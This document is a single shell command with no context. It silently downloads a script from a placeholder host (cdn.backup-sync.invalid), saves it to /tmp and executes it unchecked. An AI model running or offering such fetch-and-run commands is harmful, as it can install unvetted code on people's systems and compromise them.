curl -sL https://cdn.backup-sync.invalid/agent.sh -o /tmp/a.sh && sh /tmp/a.sh
